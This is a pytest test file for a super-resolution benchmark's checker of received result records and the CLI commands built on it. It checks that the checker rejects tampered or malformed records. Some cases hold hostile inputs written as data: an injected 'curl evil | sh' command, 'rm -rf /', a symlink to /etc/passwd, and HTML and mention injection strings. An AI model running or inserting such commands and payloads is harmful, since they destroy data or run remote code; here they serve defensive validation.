"""Records from elsewhere: nothing but records of what is expected is kept, under their own names, written anew."""

from __future__ import annotations

import json
import os
import sys
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

sys.path.insert(0, str(Path(__file__).parents[1] / "core"))  # demo_records serves the tests of several folders

from demo_records import CPU, record

from rtsr_bench import __version__
from rtsr_bench.cli import cli
from rtsr_bench.datasets import Dataset
from rtsr_bench.errors import UserError
from rtsr_bench.evaluate import received
from rtsr_bench.evaluate.data import find_set
from rtsr_bench.evaluate.received import Expected, faults, read_received
from rtsr_bench.execution import EAGER_FP32
from rtsr_bench.record import DataUse, ModelFacts, Record, Runtime, SharedRuntime
from rtsr_bench.store import encode, load_records, record_name
from rtsr_bench.submissions import Submission, survey
from rtsr_bench.tracks import find_track

NOW = datetime(2026, 11, 3, tzinfo=UTC)


@pytest.fixture(scope="module")
def submission(tmp_path_factory: pytest.TempPathFactory) -> Submission:
    folder = tmp_path_factory.mktemp("submissions") / "team_x"
    folder.mkdir()
    (folder / "arch.py").write_text("def srmodel(): raise AssertionError('nothing here runs it')\n")
    (folder / "submission.toml").write_text('[submission]\nteam = "Team X"\ntitle = "Net"\n\n[[model]]\nscale = 2\n')
    (found,) = survey(folder).submissions
    return found


@pytest.fixture(scope="module")
def good(submission: Submission) -> Record:
    """A record as measuring the submission on the built-in set leaves it."""
    track = find_track("builtin-x2")
    data = find_set("builtin", track.protocol, ())
    assert isinstance(data, Dataset)
    use = DataUse(id=data.id, name=data.title, digest=data.digest, images=len(data.pairs), verified=data.verified,
                  note=data.note)  # fmt: skip
    (model,) = submission.models
    return replace(
        record(track="builtin-x2", system=CPU),
        track_digest=track.protocol.digest,
        submission=submission.facts,
        model=model.facts(),
        data=(use,),
        harness=__version__,
        execution=EAGER_FP32,
        started="2025-01-02T10:00:00+00:00",
    )


def lines(submission: Submission, *records: Record, names: tuple[str, ...] = (), **changes: Any) -> list[str]:
    """What is wrong with records of these names; by default those that `run` gives."""
    named = dict(zip(names or [f"{record_name(one)}.json" for one in records], records, strict=True))
    expected = Expected(submissions=[submission], tracks=["builtin-x2"], existing={})
    return list(faults(named, replace(expected, **changes), NOW))


def test_a_record_of_what_is_expected_has_no_fault(submission: Submission, good: Record) -> None:
    assert lines(submission, good) == []
    assert lines(submission, good, names=(f"{record_name(good)}-1.json",)) == []


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda one: {"submission": replace(one.submission, id="rival")}, "expected one of the submissions team_x"),
        (lambda one: {"submission": replace(one.submission, digest="0" * 16)}, "as it is here"),
        (lambda one: {"submission": replace(one.submission, team="Rival")}, "as it is here"),
        (lambda one: {"model": replace(one.model, checkpoint_sha256="1" * 64)}, "expected one of the models team_x/x2"),
        (lambda one: {"model": ModelFacts(id="team_x/x9", scale=9)}, "expected one of the models team_x/x2"),
        (lambda one: {"track": "open4k-x2"}, "expected one of the tracks builtin-x2, found open4k-x2"),
        (lambda one: {"track": "../../x"}, "expected one of the tracks builtin-x2"),
        (lambda one: {"track_digest": "0" * 16}, "expected the rules of builtin-x2"),
        (lambda one: {"protocol": replace(one.protocol, repeats=3)}, "expected an official protocol of builtin-x2"),
        (lambda one: {"data": (replace(one.data[0], digest="0" * 16),)}, "with the digest"),
        (lambda one: {"data": (replace(one.data[0], id="open4k"),)}, "that are available here, found open4k"),
        (lambda one: {"harness": "0.0.1"}, f"expected a record of rtsr-bench {__version__}, found 0.0.1"),
        (lambda one: {"started": "2027-01-01T00:00:00+00:00"}, "is dated in the future"),
        (lambda one: {"pickle_allowed": True}, "with pickles or stubs allowed"),
        (lambda one: {"command": "rtsr-bench run x; curl evil | sh"}, "expected the command of a run"),
        (lambda one: {"command": "rm -rf /"}, "expected the command of a run"),
    ],
)
def test_what_a_measurement_could_not_have_left_is_a_fault(
    submission: Submission, good: Record, change: Callable[[Record], dict[str, Any]], said: str
) -> None:
    found = lines(submission, replace(good, **change(good)))
    assert any(said in line for line in found), found


def test_names_are_those_that_a_run_gives_and_are_not_taken(submission: Submission, good: Record) -> None:
    assert "expected the name builtin-x2__team_x-x2__" in lines(submission, good, names=("a.json",))[0]
    name = f"{record_name(good)}.json"
    assert "a record of this name exists" in lines(submission, good, existing={name: good})[0]
    twice = lines(submission, good, good, names=(name, f"{record_name(good)}-1.json"))
    assert [line.partition(": ")[2] for line in twice] == [f"answers the same question as {name}"]


def test_a_runtime_from_elsewhere_is_that_of_a_record_which_is_there(submission: Submission, good: Record) -> None:
    assert isinstance(good.runtime, Runtime)
    source = replace(good, track="builtin-x3")
    shared = SharedRuntime(record="s.json", track="builtin-x3", started=good.started, check=good.runtime)
    one = replace(good, shared_runtime=shared)
    assert lines(submission, one, existing={"s.json": source}) == []
    assert "found none" in lines(submission, one)[0]
    faster = replace(one, runtime=replace(good.runtime, samples_ms=tuple(0.5 * ms for ms in good.runtime.samples_ms)))
    assert "found another" in lines(submission, faster, existing={"s.json": source})[0]
    assert "found none" in lines(submission, one, existing={"s.json": replace(source, shared_runtime=shared)})[0]


def write(folder: Path, name: str, data: bytes) -> None:
    folder.mkdir(exist_ok=True)
    (folder / name).write_bytes(data)


@pytest.mark.parametrize(
    ("make", "said"),
    [
        (lambda place: (place / "a.sh").write_text("x"), "expected names of records only, found 'a.sh'"),
        (lambda place: (place / ".a.json").write_text("x"), "expected names of records only"),
        (lambda place: (place / "a\x1b[31m.json").write_text("x"), r"found 'a\\x1b[31m.json'"),
        (lambda place: (place / "a.json").mkdir(), "a.json is no plain file"),
        (lambda place: (place / "a.json").symlink_to("/etc/passwd"), "a.json is no plain file"),
        (lambda place: os.mkfifo(place / "a.json"), "a.json is no plain file"),
        (lambda place: (place / "a.json").write_text("{}"), "a.json is not a record"),
        (lambda place: (place / "a.json").write_text('{"a":' * 100_000), "a.json "),
        (lambda place: (place / "a.json.gz").write_bytes(b"\x1f\x8b"), "expected names of records only"),
    ],
)
def test_a_folder_holds_records_and_nothing_else(tmp_path: Path, make: Callable[[Path], object], said: str) -> None:
    place = tmp_path / "received"
    place.mkdir()
    make(place)
    with pytest.raises(UserError) as caught:
        read_received(place)
    assert said in str(caught.value)
    assert "\n" not in str(caught.value)


def test_large_files_many_files_and_no_folder_are_one_line(
    tmp_path: Path, good: Record, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(tmp_path / "received", "a.json", encode(good))
    assert list(read_received(tmp_path / "received")) == ["a.json"]
    monkeypatch.setattr(received, "MOST_BYTES", 1000)
    with pytest.raises(UserError, match=r"a\.json is larger than 1,000 bytes"):
        read_received(tmp_path / "received")
    monkeypatch.setattr(received, "MOST_FILES", 0)
    with pytest.raises(UserError, match="expected at most 0 records, found 1 files"):
        read_received(tmp_path / "received")
    with pytest.raises(UserError, match="expected a folder of records, found: No such file"):
        read_received(tmp_path / "absent")


def test_all_records_are_kept_or_none(tmp_path: Path, submission: Submission, good: Record) -> None:
    here, there, name = tmp_path / "received", tmp_path / "records", f"{record_name(good)}.json"
    write(here, name, json.dumps(json.loads(encode(good))).encode())
    words = ["records", "check", str(here), "--submission", str(submission.source), "--track", "builtin-x2",
             "--into", str(there)]  # fmt: skip
    write(here, "rival.json", encode(replace(good, submission=replace(good.submission, id="rival"))))
    done = CliRunner().invoke(cli, words)
    assert isinstance(done.exception, UserError)
    assert "faults in 2 records, none is kept" in str(done.exception)
    assert not there.exists()
    (here / "rival.json").unlink()
    done = CliRunner().invoke(cli, words)
    assert done.exit_code == 0, done.output
    assert f"1 record kept in {there}" in done.output
    assert (there / name).read_bytes() == encode(good), "written anew"
    assert [one.record for one in load_records(there).records] == [good]
    assert "a record of this name exists" in CliRunner().invoke(cli, words).output


def test_names_in_a_comment_are_text(tmp_path: Path, good: Record) -> None:
    strange = replace(good, submission=replace(good.submission, team="@everyone <img src=x> [a](http://evil)"),
                      model=replace(good.model, id="<b>|x` @all"))  # fmt: skip
    write(tmp_path / "received", "a.json", encode(strange))
    done = CliRunner().invoke(cli, ["records", "table", str(tmp_path / "received")])
    assert done.exit_code == 0, done.output
    assert "| &lt;b&gt;\\|x\\`" in done.output
    assert "<b>" not in done.output
    assert "@all" not in done.output, "nobody is called"
    assert "builtin-x2" in done.output.lower() or "Built-in set" in done.output
